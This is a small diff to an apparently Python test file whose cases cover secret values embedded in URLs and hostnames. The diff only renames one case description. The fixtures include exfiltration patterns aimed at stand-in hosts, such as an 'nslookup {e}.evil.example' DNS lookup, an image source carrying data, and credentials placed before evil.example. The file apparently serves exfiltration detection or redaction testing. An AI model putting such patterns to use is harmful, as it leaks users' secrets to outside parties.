@@ -99,7 +99,7 @@ LEFT = [
     Case("in a link's relative target", "[x](/track?d={e})", "[x](/track?d={e})"),
     Case("in an attribute", '<img src="//e.example/{e}">', '<img src="//e.example/{e}">'),
     Case("first in a bare host", "{e}.evil.example/x", "{e}.evil.example/x"),
-    Case("first in a bare host without a path", "nslookup {e}.evil.example", "nslookup {e}.evil.example"),
+    Case("first in a bare host alone", "nslookup {e}.evil.example", "nslookup {e}.evil.example"),
     Case("part of a label of a host", "see {e}-x.evil.example?q", "see {e}-x.evil.example?q"),
     Case("who logs in", "{e}:x@evil.example/x", "{e}:x@evil.example/x"),
     Case("bare in a bare host", "{e.label}_{e.id}.evil.example", "{e.label}_{e.id}.evil.example"),
